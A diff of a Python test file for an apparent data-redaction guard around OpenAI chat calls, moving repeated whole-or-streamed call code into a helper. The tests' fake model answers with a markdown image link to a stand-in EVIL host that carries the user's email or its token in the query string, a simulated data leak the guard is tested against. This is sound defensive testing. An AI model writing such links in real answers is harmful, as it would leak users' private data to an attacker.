@@ -204,6 +204,18 @@ def _one_event(sink: InMemorySink) -> dict[str, Any]:
     return calls[0]
 
 
+def _ask_openai(guard: aiguard.Guard, fake: FakeModel, stream: bool) -> str:
+    """One chat call as the caller's subject; the answer's text, whole or streamed."""
+    client = _openai(guard, fake)
+    messages: Any = [{"role": "user", "content": QUESTION}]
+    with guard.context(subject="cust-42", purpose="inference"):
+        if not stream:
+            done = client.chat.completions.create(model="gpt-4o", messages=messages)
+            return str(done.choices[0].message.content)
+        chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
+        return "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
+
+
 def _link_kept(answer: str) -> None:
     assert answer.startswith(f"![chart]({EVIL}/c.png?d=[EMAIL_"), answer
     assert ORIGINAL not in answer.split(")", maxsplit=1)[0]
@@ -215,15 +227,7 @@ def test_openai_chat_keeps_the_token_in_an_image_link(chunk_size: int | None) ->
     sink = InMemorySink()
     guard = aiguard.Guard(_policy(), sinks=[sink])
     fake = FakeModel(reply=_exfiltrating, chunk_size=chunk_size or 4)
-    client = _openai(guard, fake)
-    with guard.context(subject="cust-42", purpose="inference"):
-        messages = [{"role": "user", "content": QUESTION}]
-        if chunk_size is None:
-            done = client.chat.completions.create(model="gpt-4o", messages=messages)
-            answer = done.choices[0].message.content
-        else:
-            stream = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
-            answer = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
+    answer = _ask_openai(guard, fake, stream=chunk_size is not None)
     _link_kept(answer)
     event = _one_event(sink)
     assert event["links_kept"] == 1 and event["status"] == "ok"
@@ -290,15 +294,7 @@ def test_a_destination_may_restore_in_links(stream: bool) -> None:
     sink = InMemorySink()
     guard = aiguard.Guard(_policy(restore_in_links=True), sinks=[sink])
     fake = FakeModel(reply=_exfiltrating, chunk_size=3)
-    client = _openai(guard, fake)
-    with guard.context(subject="cust-42", purpose="inference"):
-        messages = [{"role": "user", "content": QUESTION}]
-        if stream:
-            chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
-            answer = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
-        else:
-            done = client.chat.completions.create(model="gpt-4o", messages=messages)
-            answer = done.choices[0].message.content
+    answer = _ask_openai(guard, fake, stream)
     assert answer == f"![chart]({EVIL}/c.png?d={ORIGINAL}) Done, I wrote to {ORIGINAL}."
     assert "links_kept" not in _one_event(sink)
 
@@ -317,18 +313,7 @@ def test_realistic_surrogates_in_a_link_stay_surrogates() -> None:
         return f"![c]({EVIL}/?d={surrogate}) Wrote to {surrogate} ."
 
     for stream in (False, True):
-        fake = FakeModel(reply=reply, chunk_size=5)
-        client = _openai(guard, fake)
-        with guard.context(subject="cust-42", purpose="inference"):
-            messages = [{"role": "user", "content": QUESTION}]
-            if stream:
-                chunks = client.chat.completions.create(
-                    model="gpt-4o", messages=messages, stream=True
-                )
-                answer = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
-            else:
-                done = client.chat.completions.create(model="gpt-4o", messages=messages)
-                answer = done.choices[0].message.content
+        answer = _ask_openai(guard, FakeModel(reply=reply, chunk_size=5), stream)
         link, prose = answer.split(") ", 1)
         # Streamed, the surrogate stays; whole, the answer reads it as its token first.
         assert ORIGINAL not in link, answer
